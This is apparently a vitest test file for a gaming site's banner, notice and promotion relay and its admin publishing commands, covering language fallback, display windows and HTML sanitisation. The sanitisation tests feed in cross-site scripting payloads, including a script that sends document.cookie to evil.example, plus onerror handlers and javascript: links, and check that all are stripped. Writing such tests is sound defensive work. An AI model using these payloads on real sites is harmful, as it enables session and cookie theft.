/**
 * Banners, notices and promotions as the shell reads them (MCSFE_getListAnnouncements and the
 * promotion detail), on the seeded demo merchant, and what an operator publishes with the admin
 * commands: per language with fallback, only inside the active window, HTML sanitised on the way in.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { executeAdminCommand, parseAdminArgs, UsageError } from '../../server/admin/admin.commands';
import { startTestGateway } from './support/test-gateway';
import type { TestGateway } from './support/test-gateway';

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway();
});
afterAll(() => gw?.close());

const admin = (...argv: string[]) =>
  executeAdminCommand(gw.database.db, parseAdminArgs(argv), { hasher: gw.app.ctx.providers.hasher, now: gw.clock.now, via: 'cli' });

interface Banner {
  id: number;
  groupName: string;
  url: string;
  imageUrl: string;
  linkageType: string | null;
  linkage: string | null;
  title: string;
  sort: number;
  startTime: number;
  endTime: number | null;
}
interface Notice {
  id: number;
  title: string;
  content: string;
  promotionType: string;
  showAfterLogin: boolean;
}
interface Promotion {
  id: number;
  code: string | null;
  title: string;
  summary: string;
  category: string;
  promotionType: string;
  imageUrl: string;
  announcementImages: { imageUrl: string }[];
}
interface Announcements {
  banners: Banner[];
  player: Notice[];
  popup: Notice[];
  promotion: Promotion[];
}

async function announcements(query = 'types=B,PL,PU,PR&platform=W&execution=B', headers: Record<string, string> = {}): Promise<Announcements> {
  const response = await gw.get(`/wps/relay/MCSFE_getListAnnouncements?${query}`, { headers });
  expect(response.statusCode).toBe(200);
  const body = response.json();
  expect(body.success).toBe(true);
  return body.value;
}

const groupCounts = (banners: Banner[]) =>
  banners.reduce<Record<string, number>>((counts, b) => {
    counts[b.groupName] = (counts[b.groupName] ?? 0) + 1;
    return counts;
  }, {});

describe('the relay answers the contract shape', () => {
  it('has banners for every route group, several on home and one on single-banner groups', async () => {
    const value = await announcements();
    expect(Object.keys(value).sort()).toEqual(['banners', 'player', 'popup', 'promotion']);
    const counts = groupCounts(value.banners);
    for (const group of [
      'w_home',
      'w_rng',
      'w_live',
      'w_fish',
      'w_pvp',
      'w_sports',
      'w_esports',
      'w_lottery',
      'w_cockfight',
      'w_promotion',
      'w_shop',
      'w_help',
      'w_register_MS',
      'w_register_EN',
      'w_register_CN',
      'w_login',
      'w_forget',
    ]) {
      expect(counts[group], group).toBeGreaterThanOrEqual(1);
    }
    expect(counts.w_home).toBeGreaterThan(1);
    expect(counts.w_live).toBe(1);
    for (const banner of value.banners) {
      expect(banner.url).toBe(banner.imageUrl);
      expect(banner.url).toMatch(/^\/wps\/assets\/content\/[a-z0-9-]+\.webp$/);
      expect(banner.linkage === null).toBe(banner.linkageType === null);
    }
    const home = value.banners.filter((b) => b.groupName === 'w_home');
    expect(home.map((b) => b.sort)).toEqual([...home.map((b) => b.sort)].sort((a, b) => a - b));
    expect(home.some((b) => b.linkageType === null)).toBe(true);
    expect(home.find((b) => b.linkageType === 'ROUTE')?.linkage).toMatch(/^\/[a-z]/);
  });

  it('has notices, the after-login ones in the popup, and promotions in categories with their picture', async () => {
    const value = await announcements();
    expect(value.player.length).toBeGreaterThanOrEqual(5);
    expect(value.popup.length).toBeGreaterThan(0);
    expect(value.popup.every((n) => n.showAfterLogin)).toBe(true);
    expect(value.popup.map((n) => n.id)).toEqual(value.player.filter((n) => n.showAfterLogin).map((n) => n.id));
    expect(new Set(value.player.map((n) => n.promotionType)).size).toBeGreaterThan(2);
    expect(value.promotion.length).toBeGreaterThanOrEqual(8);
    expect(new Set(value.promotion.map((p) => p.category)).size).toBeGreaterThanOrEqual(4);
    for (const promotion of value.promotion) {
      expect(promotion.announcementImages[0].imageUrl).toBe(promotion.imageUrl);
      expect(promotion.promotionType).toBe(promotion.category);
      expect(promotion).not.toHaveProperty('content'); // the detail call carries the HTML
    }
  });

  it('answers only the requested types', async () => {
    const value = await announcements('types=B&platform=W');
    expect(value.banners.length).toBeGreaterThan(0);
    expect(value).toMatchObject({ player: [], popup: [], promotion: [] });
    const refused = await gw.get('/wps/relay/MCSFE_getListAnnouncements?types=B,XX');
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toMatchObject({ success: false, errorCode: 'request_param_err' });
  });
});

describe('languages', () => {
  it('answers the requested language and falls back to the merchant default (MS)', async () => {
    const english = await announcements('types=PL,PR', { language: 'EN' });
    const malay = await announcements('types=PL,PR');
    const chinese = await announcements('types=PL,PR&language=cn');
    expect(english.player[0].title).toBe('Welcome to Demo Gaming');
    expect(malay.player[0].title).toBe('Selamat datang ke Demo Gaming');
    expect(chinese.player[0].title).toBe('欢迎来到 Demo Gaming');
    // Thai is offered but has no content: the default's
    const thai = await announcements('types=PL,PR', { language: 'TH' });
    expect(thai.player.map((n) => n.id)).toEqual(malay.player.map((n) => n.id));
    expect(thai.promotion.map((p) => p.id)).toEqual(malay.promotion.map((p) => p.id));
    // a code the merchant does not offer is treated like no choice
    expect((await announcements('types=PL', { language: 'XX' })).player[0].title).toBe(malay.player[0].title);
  });

  it('falls back per banner group: a group published in English replaces only that group', async () => {
    const before = await announcements('types=B', { language: 'EN' });
    expect(before.banners.filter((b) => b.groupName === 'w_live')).toHaveLength(1);
    const published = await admin('banner', 'add', '--group', 'w_live', '--image', 'banner-rng', '--title', 'Live in English', '--lang', 'EN');
    expect(published.code, published.stderr).toBe(0);
    const after = await announcements('types=B', { language: 'EN' });
    expect(after.banners.filter((b) => b.groupName === 'w_live').map((b) => b.title)).toEqual(['Live in English']);
    expect(groupCounts(after.banners).w_home).toBe(groupCounts(before.banners).w_home);
    // other languages still see the default's
    expect((await announcements('types=B')).banners.filter((b) => b.groupName === 'w_live').map((b) => b.title)).not.toContain('Live in English');
  });
});

describe('promotion detail', () => {
  it('gives the HTML detail by id and by code in the request language', async () => {
    const { promotion } = await announcements('types=PR', { language: 'EN' });
    const welcome = promotion.find((p) => p.code === 'welcome-bonus')!;
    const byId = (await gw.get(`/wps/relay/MCSFE_getPromotionDetail?id=${welcome.id}`)).json();
    expect(byId).toMatchObject({ success: true, value: { id: welcome.id, code: 'welcome-bonus', language: 'EN', title: welcome.title } });
    expect(byId.value.content).toContain('<ol>');
    const byCode = (await gw.get('/wps/relay/MCSFE_getPromotionDetail?code=welcome-bonus', { headers: { language: 'CN' } })).json();
    expect(byCode.value).toMatchObject({ code: 'welcome-bonus', language: 'CN', title: '₱22,222 注册奖金' });
  });

  it('refuses an unknown promotion and a request without id or code', async () => {
    expect((await gw.get('/wps/relay/MCSFE_getPromotionDetail?id=999999')).statusCode).toBe(404);
    expect((await gw.get('/wps/relay/MCSFE_getPromotionDetail')).statusCode).toBe(400);
  });

  it('banners linking to a promotion name a code the detail call resolves', async () => {
    const { banners } = await announcements('types=B');
    const linked = banners.filter((b) => b.linkageType === 'PROMOTION');
    expect(linked.length).toBeGreaterThan(0);
    for (const banner of linked) {
      expect((await gw.get(`/wps/relay/MCSFE_getPromotionDetail?code=${banner.linkage}`)).json().success).toBe(true);
    }
  });
});

describe('publishing commands', () => {
  it.each([
    [['notice', 'add', '--content', '<p>x</p>']],
    [['notice', 'add', '--title', 'x', '--content', '<p>x</p>', '--type', 'SPAM']],
    [['notice', 'add', '--title', 'x', '--content', '<p>x</p>', '--group', 'w_home']],
    [['banner', 'add', '--group', 'w_home']],
    [['banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link', '/live']],
    [['banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link-type', 'GAME', '--link', 'x']],
    [['banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--from', 'soon']],
    [['promotion', 'add', '--title', 'x', '--content', 'y', '--image', 'promo-app-bonus', '--category', 'LOTTO']],
    [['promotion', 'remove', 'abc']],
    [['banner', 'publish']],
    [['vip', 'set', 'demo_player']],
  ])('refuses %j with a usage error', (argv) => {
    expect(() => parseAdminArgs(argv)).toThrow(UsageError);
  });

  it('turns a built-in picture name into its address', () => {
    expect(parseAdminArgs(['banner', 'add', '--group', 'w_home', '--image', 'banner-live'])).toMatchObject({
      kind: 'banner.add',
      image: '/wps/assets/content/banner-live.webp',
    });
  });
});

describe('publishing', () => {
  it('sanitises notice HTML on the way in: no script or handler ever comes out', async () => {
    const published = await admin(
      'notice',
      'add',
      '--title',
      'Bonus <script>alert(1)</script>day',
      '--lang',
      'EN',
      '--after-login',
      '--type',
      'news',
      '--content',
      '<p onclick="steal()">Deposit <b>now</b><script>document.location="https://evil.example?c="+document.cookie</script></p><img src=x onerror=alert(1)><a href="javascript:alert(1)">win</a>',
    );
    expect(published.code, published.stderr).toBe(0);
    const { player, popup } = await announcements('types=PL,PU', { language: 'EN' });
    const notice = player.find((n) => n.title.startsWith('Bonus'))!;
    expect(notice.content).toBe('<p>Deposit <b>now</b></p><a>win</a>');
    expect(notice.title).not.toContain('<');
    expect(notice.promotionType).toBe('NEWS');
    expect(popup.map((n) => n.id)).toContain(notice.id);
    const raw = JSON.stringify(await announcements('types=B,PL,PU,PR', { language: 'EN' }));
    expect(raw).not.toMatch(/<script|onerror=|onclick=|javascript:/i);
  });

  it('refuses content that is nothing but disallowed markup, and unsafe links and pictures', async () => {
    expect((await admin('notice', 'add', '--title', 'Empty', '--content', '<script>alert(1)</script>')).code).toBe(1);
    const badLink = await admin(
      'banner',
      'add',
      '--group',
      'w_home',
      '--image',
      'banner-live',
      '--link-type',
      'URL',
      '--link',
      'javascript:alert(1)',
    );
    expect(badLink).toMatchObject({ code: 1, stderr: 'link: an http(s) address\n' });
    expect((await admin('banner', 'add', '--group', 'w_home', '--image', 'javascript:alert(1)')).code).toBe(1);
    expect(
      (await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--link-type', 'PROMOTION', '--link', 'no-such-promo')).code,
    ).toBe(1);
    expect((await admin('banner', 'add', '--group', 'w_home', '--image', 'banner-live', '--lang', 'XX')).code).toBe(1);
  });

  it('shows an item only inside its window', async () => {
    const now = gw.clock.now().getTime();
    const from = new Date(now + 60 * 60_000).toISOString();
    const until = new Date(now + 2 * 60 * 60_000).toISOString();
    const published = await admin(
      'promotion',
      'add',
      '--title',
      'Happy hour',
      '--content',
      '<p>Double rebate</p>',
      '--image',
      'promo-daily-reload',
      '--category',
      'rebate',
      '--lang',
      'EN',
      '--from',
      from,
      '--until',
      until,
      '--code',
      'happy-hour',
    );
    expect(published.code, published.stderr).toBe(0);
    const titles = async () => (await announcements('types=PR', { language: 'EN' })).promotion.map((p) => p.title);
    expect(await titles()).not.toContain('Happy hour');
    expect((await gw.get('/wps/relay/MCSFE_getPromotionDetail?code=happy-hour')).statusCode).toBe(404);
    gw.clock.advance(61 * 60_000);
    expect(await titles()).toContain('Happy hour');
    gw.clock.advance(60 * 60_000);
    expect(await titles()).not.toContain('Happy hour');
  });

  it('lists and removes items; a removed promotion stops being a banner link', async () => {
    const promo = await admin(
      'promotion',
      'add',
      '--title',
      'Flash deal',
      '--content',
      '<p>Today only</p>',
      '--image',
      'promo-vip-upgrade',
      '--category',
      'EVENT',
      '--code',
      'flash-deal',
    );
    const promotionId = /promotion (\d+)/.exec(promo.stdout)![1];
    const banner = await admin(
      'banner',
      'add',
      '--group',
      'w_promotion',
      '--image',
      'banner-promotion',
      '--link-type',
      'PROMOTION',
      '--link',
      'flash-deal',
      '--sort',
      '-1',
    );
    expect(banner.code, banner.stderr).toBe(0);
    const bannerId = Number(/banner (\d+)/.exec(banner.stdout)![1]);
    const listing = await admin('banner', 'list', '--group', 'w_promotion');
    expect(listing.stdout).toMatch(new RegExp(`^${bannerId}\\tMS\\tactive\\t`, 'm'));

    expect((await admin('promotion', 'remove', promotionId)).code).toBe(0);
    const unlinked = (await announcements('types=B')).banners.find((b) => b.id === bannerId)!;
    expect(unlinked).toMatchObject({ linkageType: null, linkage: null });
    expect((await admin('banner', 'remove', String(bannerId))).stdout).toBe(`removed banner ${bannerId}\n`);
    expect((await announcements('types=B')).banners.some((b) => b.id === bannerId)).toBe(false);
    expect((await admin('banner', 'remove', String(bannerId))).code).toBe(1);

    const audit = await gw.database.db.query<{ command: string }>(
      "SELECT command FROM admin_audit WHERE command IN ('promotion.add', 'banner.add', 'content.remove')",
    );
    expect(audit.rows.length).toBeGreaterThanOrEqual(4);
  });
});
